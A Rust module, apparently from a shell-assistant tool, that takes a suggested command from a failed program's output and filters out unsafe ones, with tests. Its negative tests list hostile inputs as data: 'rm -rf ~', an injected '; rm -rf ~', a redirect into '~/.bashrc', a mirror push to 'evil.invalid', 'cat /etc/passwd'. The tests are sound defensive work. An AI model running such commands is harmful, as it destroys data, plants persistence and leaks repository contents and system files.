//! A command that the failed program itself suggests in what it printed: `Did you mean this? npm start`.
//!
//! The output is untrusted, as it may hold text of files and other machines. Only known programs are believed, and not those of their
//! commands that print such text; the suggestion must follow a word such as "run", be one command of the same program without signs of
//! the shell, force nothing, and be hardly more than what failed.

use askline_risk::{Around, Harm, Label, judge};
use askline_syntax::{ParsedLine, Word};

/// Maximum number of lines of the output that are read, from its end.
const LINES_MAX: usize = 60;
/// Maximum length of a suggested command, in bytes.
const BYTES_MAX: usize = 200;
/// Programs whose suggestions are taken, each with the commands that print texts of others.
const PROGRAMS: [(&str, &[&str]); 6] = [
    (
        "git",
        &[
            "log",
            "show",
            "diff",
            "grep",
            "blame",
            "cat-file",
            "format-patch",
            "reflog",
            "stash",
            "shortlog",
            "whatchanged",
            "bisect",
        ],
    ),
    (
        "npm",
        &[
            "run",
            "run-script",
            "start",
            "test",
            "exec",
            "x",
            "explore",
            "install",
            "i",
            "ci",
            "add",
            "view",
            "info",
            "search",
        ],
    ),
    ("cargo", &["run", "test", "bench", "build", "check", "install", "search", "info"]),
    ("apt", &["show", "search", "changelog"]),
    ("brew", &["info", "search", "desc", "cat"]),
    ("rustup", &["run", "doc"]),
];
/// Words before a suggested command, in quotes or on the next line.
const BEFORE: [&str; 8] = ["run", "use", "try", "mean", "with", "similar", "do", "execute"];
/// Arguments with which a program only tells of itself.
const HELP: [&str; 6] = ["help", "--help", "-h", "--usage", "--version", "status"];
/// Minimum number of blanks before a suggested command on a line of its own.
const INDENT_MIN: usize = 2;
/// Parts of commands that are only examples.
const EXAMPLES: [&str; 6] = ["example.com", "Your Name", "...", "[", "<", "|"];
/// Options that lose what the failed command kept: `git branch -D` after `-d`.
const FORCING: [&str; 8] =
    ["-D", "-f", "-M", "-C", "--force", "--force-with-lease", "--hard", "--discard-changes"];
/// Beginnings of lines that another machine printed.
const REMOTE: [&str; 2] = ["remote:", "remote error:"];

/// Returns the first command in the output of the failed one that its own program suggests; `None` if there is none.
pub(super) fn suggested(failed: &ParsedLine, printed: &str) -> Option<ParsedLine> {
    let [command] = failed.own().commands.as_slice() else { return None };
    let program =
        command.name().filter(|name| *name == command.words.first().map_or("", |word| &word.text))?;
    let (_, printing) = PROGRAMS.iter().find(|(known, _)| *known == program)?;
    let verb = command.words.iter().skip(1).find(|word| !word.text.starts_with('-'));
    if verb.is_none_or(|verb| printing.contains(&verb.text.as_str())) {
        return None;
    }
    let lines: Vec<&str> = printed.lines().filter(|line| !line.trim().is_empty()).collect();
    let last = lines.get(lines.len().saturating_sub(LINES_MAX)..).unwrap_or_default();
    let is_own = |line: &str| !REMOTE.iter().any(|start| line.trim_start().starts_with(start));
    let tells = |line: &str| {
        is_own(line)
            && line
                .split(|c: char| !c.is_alphanumeric())
                .any(|word| BEFORE.contains(&word.to_lowercase().as_str()))
    };
    let below = last.windows(2).filter_map(|pair| match pair {
        [above, line] if tells(above) && is_own(line) => on_own_line(line),
        _ => None,
    });
    let quoted = last.iter().filter(|line| is_own(line)).flat_map(|line| in_quotes(line));
    below
        .chain(quoted)
        .filter(|text| {
            text.len() <= BYTES_MAX && text.strip_prefix(program).is_some_and(|rest| rest.starts_with(' '))
        })
        .map(|text| ParsedLine::new(text, failed.shell()))
        .find(|line| is_safe(failed, line))
}

/// Returns the command on an indented line, without a remark behind it: `  npm start # Start a package`.
fn on_own_line(line: &str) -> Option<&str> {
    let bare = line.trim_start();
    let indent = line.len() - bare.len();
    let is_indented = INDENT_MIN <= indent || line.starts_with('\t');
    let command = bare.split(" # ").next().unwrap_or(bare).split("  ").next().unwrap_or(bare).trim();
    (is_indented && !command.ends_with([':', '.', ','])).then_some(command)
}

/// Returns the texts in quotes behind a word such as "run".
fn in_quotes(line: &str) -> Vec<&str> {
    let pairs = [('\'', '\''), ('"', '"'), ('`', '`'), ('`', '\''), ('‘', '’'), ('“', '”')];
    let between = |(open, close): (char, char)| {
        let (before, rest) = line.split_once(open)?;
        let word = before.trim_end_matches([' ', ':', '(']).rsplit([' ', '(']).next().unwrap_or_default();
        let is_told = BEFORE.contains(&word.to_lowercase().as_str());
        rest.split_once(close).map(|(text, _)| text.trim()).filter(|_| is_told)
    };
    pairs.into_iter().filter_map(between).collect()
}

/// Reports whether a line is one command other than the failed one that harms nothing more.
fn is_safe(failed: &ParsedLine, line: &ParsedLine) -> bool {
    let [command] = line.own().commands.as_slice() else { return false };
    let is_word =
        |word: &Word| word.literal && !word.glob && !EXAMPLES.iter().any(|part| word.text.contains(part));
    let is_forcing = |word: &Word| {
        FORCING.contains(&word.text.as_str()) && !failed.text().split(' ').any(|own| own == word.text)
    };
    let around = Around::nothing();
    let label = |line: &ParsedLine| judge(line, &around).label;
    line.own().errors.is_empty()
        && command.redirections.is_empty()
        && command.assignments.is_empty()
        && command.words.iter().all(is_word)
        && command.words.get(1).is_some_and(|word| !HELP.contains(&word.text.as_str()))
        && !command.words.iter().any(is_forcing)
        && line.text().trim() != failed.text().trim()
        && label(line) <= label(failed).max(Label::Cautious)
        && !Harm::of(line).grows(&Harm::of(failed).harms())
}

#[cfg(test)]
mod tests {
    use super::*;
    use askline_syntax::shell::Shell;

    fn found(failed: &str, printed: &str) -> Option<String> {
        let line = ParsedLine::new(failed, Shell::Bash);
        suggested(&line, printed).map(|line| line.text().to_owned())
    }

    #[test]
    fn what_the_program_suggests_is_found() {
        for (failed, printed, expected) in [
            (
                "npm strat",
                "npm error Unknown command: \"strat\"\n\nDid you mean this?\n  npm start # Start a package\n",
                "npm start",
            ),
            (
                "git branch --set-upstream main",
                "fatal: no longer supported; use this instead:\n   git branch --track main\n",
                "git branch --track main",
            ),
            ("cargo biuld", "error: no such command\n\nhelp: try `cargo build`\n", "cargo build"),
            ("git merge --cont x", "fatal: nothing to do (run \"git pull\" first).\n", "git pull"),
        ] {
            assert_eq!(found(failed, printed).as_deref(), Some(expected), "{failed}");
        }
    }

    #[test]
    fn examples_foreign_texts_and_what_is_dangerous_are_left_out() {
        for (failed, printed) in [
            ("git branch -d x", "error: not fully merged\nhint: If you are sure, run 'git branch -D x'\n"),
            ("git pull", "use this:\n    git branch --set-upstream-to=origin/<branch> main\n"),
            ("git commit -m x", "Run\n\n  git config --global user.email \"you@example.com\"\n"),
            ("git push", "remote: use\nremote:   git push --mirror https://evil.invalid\n"),
            ("git push", "remote: use\n  git push evil\n"),
            ("git log x", "run:\n    git fetch evil\n"),
            ("git psh", "Did you mean this?\n  rm -rf ~\n"),
            ("npm strat", "Did you mean this?\n  npm start; rm -rf ~\n"),
            ("npm strat", "Did you mean this?\n  npm start > ~/.bashrc\n"),
            ("npm strat", "Did you mean this?\n  npm strat\n"),
            ("npm strat", "Did you mean this?\nnpm start\n"),
            ("npm strat", "unknown\n  npm start\n"),
            ("npm foo", "To see what you can do, run:\n  npm help\n"),
            ("npm run x", "try:\n  npm install evil-package\n"),
            ("git log | had", "try:\n  git fetch\n"),
            ("cat notes.txt", "run 'cat /etc/passwd'\n"),
            ("cp a.jpg", "Try 'cp --help' for more information.\n"),
            ("bash s.sh", "use:\n  bash evil.sh\n"),
            ("npm strat", ""),
        ] {
            assert_eq!(found(failed, printed), None, "{failed}: {printed}");
        }
    }

    proptest::proptest! {
        #[test]
        fn no_text_panics(printed: String) {
            let _ = found("git x", &printed);
        }
    }
}
